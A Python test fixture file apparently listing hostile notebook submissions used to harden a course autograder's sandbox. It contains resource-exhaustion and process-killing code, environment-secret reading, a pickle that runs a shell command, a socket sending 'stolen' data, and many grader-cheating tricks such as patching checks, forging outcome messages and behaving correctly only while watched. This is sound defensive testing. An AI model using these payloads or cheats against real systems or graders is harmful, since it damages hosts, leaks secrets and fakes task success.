"""Hostile submissions to lesson 01: none may gain a point, harm the host, or stop the batch.

Each is the cells of a notebook. The honest answer `attention_scores`, worth 1 point, is added at the
end of every one: `KEEPS_IT` names those that leave it its point. Everything is bounded by itself: in
count, in size and in time, so that a sandbox that fails does not take the machine with it.
"""

HONEST = "def attention_scores(q, k):\n    return q @ k.mT / q.shape[-1] ** 0.5"


def answer(body: str, before: str = "") -> list[str]:
    """A notebook whose `stable_softmax` has this body."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return [f"import os, sys, torch\n{before}\n\ndef stable_softmax(x, dim=-1):\n{lines}"]


# -------------------------------------------------- what ends or blocks the process

ENDS = {
    "exit in an answer": answer("os._exit(0)"),
    "sys.exit in an answer": answer("sys.exit(0)"),
    "SystemExit with a tensor": answer("raise SystemExit(x.softmax(dim))"),
    "exit while importing": ["import os\nos._exit(0)"],
    "exit by a signal": answer("import signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    "exit by a crash": answer("import ctypes\nctypes.string_at(0)"),
    "abort": answer("os.abort()"),
    "endless loop in an answer": answer("while True:\n    pass"),
    "endless loop while importing": ["while True:\n    pass"],
    "endless loop that ignores signals": answer(
        "while True:\n    pass",
        "import signal\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)",
    ),
    "sleep without end": answer("import time\ntime.sleep(3600)"),
    "recursion without end": answer("return stable_softmax(x, dim)"),
    "keyboard interrupt": answer("raise KeyboardInterrupt"),
    "a hook at exit": answer("sys.exit()", "import atexit\natexit.register(lambda: os._exit(0))"),
}  # fmt: skip

# ---------------------------------------------------------------------------- storms

STORMS = {
    "fork storm": answer("for _ in range(50):\n    os.fork()\nreturn x.softmax(dim)"),
    "process storm": answer(
        "import subprocess\nfor _ in range(50):\n    subprocess.Popen(['/bin/sleep', '30'])\n"
        "return x.softmax(dim)"
    ),
    "thread storm": answer(
        "import threading, time\nfor _ in range(2000):\n"
        "    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
        "return x.softmax(dim)"
    ),
    "memory storm": answer(
        "hoard = [bytearray(1 << 28) for _ in range(64)]\nreturn x.softmax(dim)"
    ),
    "disk storm": answer(
        "for i in range(64):\n    with open(f'/tmp/{i}', 'wb') as f:\n        f.write(bytes(1 << 22))\n"
        "return x.softmax(dim)"
    ),
    "print storm": answer("for _ in range(200_000):\n    print('x' * 100)\nreturn 3"),
    "print storm while importing": ["for _ in range(200_000):\n    print('x' * 100)"],
    "a huge result": answer("return torch.zeros(4_000, 4_000)"),
    "a huge error": answer("raise ValueError('x' * 50_000_000)"),
    "many results": answer("return tuple(torch.zeros(1) for _ in range(40_000))"),
    "a number too large": answer("return 10 ** 100_000"),
}  # fmt: skip

# ------------------------------------------------------------------ reading and writing

FILES = {
    "reads the solutions": answer(
        "import pathlib\n"
        "for root in ('/work', '/root', '/home', '/course', '/', os.getcwd()):\n"
        "    for path in pathlib.Path(root).rglob('01_single_head.ipynb'):\n"
        "        text = path.read_text()\n"
        "        exec(text)\n"
        "return None"
    ),
    "calls the library": answer("import attn_lib\nreturn attn_lib.einsum_attention(x, x, x)[1]"),
    "calls the reference": answer(
        "from attn_lib.checks.task import find_task\nreturn find_task('stable_softmax').reference(x, dim)"
    ),
    "asks for its own answer": answer(
        "from attn_lib.checks import mine\nreturn mine('stable_softmax')(x, dim)"
    ),
    "reads the environment of its parents": answer(
        "import pathlib\n"
        "seen = [p.read_bytes() for p in pathlib.Path('/proc').glob('[0-9]*/environ')]\n"
        "assert any(b'HOST_SECRET' in s for s in seen)\nreturn x.softmax(dim)"
    ),
    "kills its parents": answer(
        "import signal\nfor pid in (os.getppid(), 1, *range(2, 50)):\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\nreturn None"
    ),
    "network": answer(
        "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).sendall(b'stolen')\n"
        "return x.softmax(dim)"
    ),
}  # fmt: skip

# ------------------------------------------------------------------------ cheating the check

CHEATS = {
    "patches the check": ["import attn_lib.checks as c\nc.judge = c.check = c.grade = lambda *a, **k: 1.0"],
    "patches torch.allclose": [
        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.Tensor.__eq__ = lambda *a: True\ntorch.Tensor.isfinite = lambda s: s\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ],
    "patches the observer": [
        "import attn_lib.checks.observe as o\n"
        "o.observe = o._gradients = lambda *a, **k: o.Outcome()\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ],
    "patches the messages": [
        "import attn_lib.grading.wire as w, __main__\n"
        "w.pack_outcome = lambda *a: {'status': 'passed', 'points': 99}\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ],
    "writes to the judge": answer(
        "for fd in range(3, 64):\n    try:\n        os.write(fd, b'{\"status\": \"passed\"}' * 10)\n"
        "    except OSError:\n        pass\nreturn x"
    ),
    "sends an outcome of its own": answer(
        "import json, struct\n"
        "h = json.dumps({'values': [], 'count': 0, 'is_sequence': False, 'gradients': {}, 'error': None,"
        " 'untouched': False, 'changed': [], 'printed': '', 'status': 'passed', 'points': 9}).encode()\n"
        "for fd in range(3, 64):\n    try:\n        os.write(fd, struct.pack('<II', len(h), 0) + h)\n"
        "    except OSError:\n        pass\nreturn x"
    ),
    "announces a size that never comes": answer(
        "import struct\nfor fd in range(3, 64):\n    try:\n        os.write(fd, struct.pack('<II', 1 << 19, 1 << 25))\n"
        "    except OSError:\n        pass\nreturn x"
    ),
    "closes every file": answer("os.closerange(0, 64)\nreturn x"),
    "equal to everything": answer(
        "class Same(torch.Tensor):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        return True\n"
        "return torch.Tensor._make_subclass(Same, x)"
    ),
    "code in a pickle": answer(
        "class Bomb:\n    def __reduce__(self):\n        return os.system, ('touch /tmp/bomb',)\nreturn Bomb()"
    ),
    "looks for the expected result": answer(
        "import gc\n"
        "for item in gc.get_objects():\n"
        "    if isinstance(item, torch.Tensor) and item is not x and item.shape == x.shape:\n"
        "        if (item.sum(dim) - 1).abs().max() < 1e-3:\n            return item\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
        "    for value in frame.f_locals.values():\n"
        "        if hasattr(value, 'reference'):\n            return value.reference(x, dim)\n"
        "    frame = frame.f_back\nreturn x"
    ),
    "knows the public inputs": answer(
        "table = {(1.0, 2.0, 4.0): [0.042010, 0.114195, 0.843795]}\n"
        "key = tuple(x.flatten().tolist())\n"
        "return torch.tensor([table[key]]) if key in table else x"
    ),
    "right for the first calls": answer(
        "calls.append(1)\nreturn x.softmax(dim) if len(calls) < 5 else x", "calls = []"
    ),
    "right while it is watched": answer(
        "names = [f.function for f in __import__('inspect').stack()]\n"
        "return x.softmax(dim) if 'check' in names else x"
    ),
    "verdict as a tensor": answer("x.status, x.points = 'passed', 9\nreturn x"),
    "a module of its own": [
        "import sys, types\n"
        "for name in list(sys.modules):\n"
        "    if name.startswith('attn_lib'):\n        sys.modules[name] = types.ModuleType(name)\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ],
    "defines a check of its own": [
        "def check(*a, **k):\n    print('passed')\ngrade = judge = check\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ],
}  # fmt: skip

# ------------------------------------------------------------- forged outcomes and messages


def forged(**said: str) -> list[str]:
    """A notebook with a right `stable_softmax` without gradients, whose outcomes say something else."""
    lies = "".join(f"    said[{name!r}] = {value}\n" for name, value in said.items())
    return [
        "import torch, attn_lib.grading.worker as w\n"
        "honest, names = w.pack_outcome, []\n"
        "def make_case(header, data, made=w.make_case):\n"
        "    names[:] = [header['task']]\n    return made(header, data)\n"
        "def pack_outcome(outcome, blobs):\n"
        "    said = honest(outcome, blobs)\n"
        "    if names != ['stable_softmax']:\n        return said\n"
        "    def tensor(dtype, shape, size):\n"
        "        blobs.append(bytes(size))\n"
        "        start = sum(map(len, blobs)) - size\n"
        "        return {'tensor': [dtype, shape, list(range(len(shape))), start]}\n"
        f"{lies}    return said\n"
        "w.make_case, w.pack_outcome = make_case, pack_outcome\n"
        "def stable_softmax(x, dim=-1):\n    return x.detach().softmax(dim)"
    ]


def sent(header: str) -> list[str]:
    """A notebook that sends a message of its own while its cells run."""
    return [
        "import json, os, struct\n"
        f"text = json.dumps({header}).encode()\n"
        "os.write(3, struct.pack('<II', len(text), 0) + text)\n"
        "def stable_softmax(x, dim=-1):\n    return x"
    ]


FORGED = {
    "a gradient of no numbers": forged(gradients="{'0': tensor('float32', [0, 1, 1, 1, 1, 1], 0)}"),
    "a gradient of another shape": forged(gradients="{'0': tensor('float32', [7, 11], 308)}"),
    "a gradient of eight bits": forged(gradients="{'0': tensor('float8_e4m3fn', [1], 1)}"),
    "a complex gradient": forged(gradients="{'0': tensor('complex64', [1], 8)}"),
    "the same bytes as many gradients": forged(
        gradients="dict.fromkeys(map(str, range(2_000)), tensor('uint8', [4_000_000], 4_000_000))"
    ),
    "infinitely many values": forged(count="float('inf')"),
    "a line without end": forged(error="['E', 't', 'e', [['f', float('inf')]], False]"),
    "a size without end": forged(values="[{'tensor': ['float32', [float('inf')], [0], 0]}]"),
    "sizes too large to multiply": forged(values="[tensor('float32', [0] + [1 << 22] * 9, 0)]"),
    "a changed argument that is none": forged(changed="['\\u00b2']"),
    "a changed argument far away": forged(changed="['9999']"),
    "markup and control characters": forged(
        error="['<script>', *['<script>\\x1b[2J\\ud800=1+1' * 99] * 2, [['<script>', 1]], False]"
    ),
    "a cell numbered infinity": sent("{'cell': float('inf')}"),
    "a cell numbered in words": sent("{'cell': 'one'}"),
    "definitions that are none": sent("{'defined': 5}"),
    "a list for a message": sent("[1, 2]"),
    "nothing for a message": sent("None"),
}  # fmt: skip

# ------------------------------------- what no limit of memory counts, and what leaves the machine


def gets(code: str) -> list[str]:
    """A notebook whose `stable_softmax` is right if this code raises no OSError."""
    lines = "\n".join("    " + line for line in code.strip().splitlines())
    return [
        "import ctypes, os, pathlib, socket, sys, torch\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def called(name, *arguments):\n"
        "    if getattr(libc, name)(*arguments) < 0:\n        raise OSError(name)\n"
        "def stable_softmax(x, dim=-1):\n    return x\n"
        f"try:\n{lines}\n    stable_softmax = torch.softmax\nexcept OSError:\n    pass"
    ]


HOARDS = {
    "files without names": gets("os.memfd_create('x')"),
    "shared memory": gets("called('shmget', 0, 1 << 20, 0o1600)"),
    "semaphores": gets("called('semget', 0, 10, 0o1600)"),
    "message queues": gets("called('msgget', 0, 0o1600)"),
    "named message queues": gets("called('mq_open', b'/x', os.O_CREAT | os.O_RDWR, 0o600, None)"),
    "contexts of input and output": gets(
        "called('syscall', 206 if os.uname().machine == 'x86_64' else 0, 9, ctypes.byref(ctypes.c_long()))"
    ),
    "two thousand open files": gets("held = [open('/dev/null') for _ in range(2000)]"),
    "many small files": gets("for i in range(20_000):\n    open(f'/tmp/{i}', 'w').close()"),
    "a file in the root": gets("pathlib.Path('/x').write_bytes(bytes(1 << 20))"),
    "a file in /etc": gets("pathlib.Path('/etc/x').write_bytes(bytes(1 << 20))"),
    "a file beside Python": gets("pathlib.Path(sys.base_prefix).with_name('x').write_text('x')"),
    "a socket to the host of a virtual machine": gets("socket.socket(40, socket.SOCK_STREAM)"),
    "a socket to the kernel": gets("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)"),
    "a socket for ciphers": gets("socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)"),
}  # fmt: skip

HOSTILE = ENDS | STORMS | FILES | CHEATS | FORGED | HOARDS
# Where the honest answer cannot be expected to survive: what it needs was broken in its own process.
LOSES_IT = {
    "patches torch.allclose",
    "patches the observer",
    "patches the messages",
    "a module of its own",
    "sends an outcome of its own",
}
KEEPS_IT = set(HOSTILE) - LOSES_IT
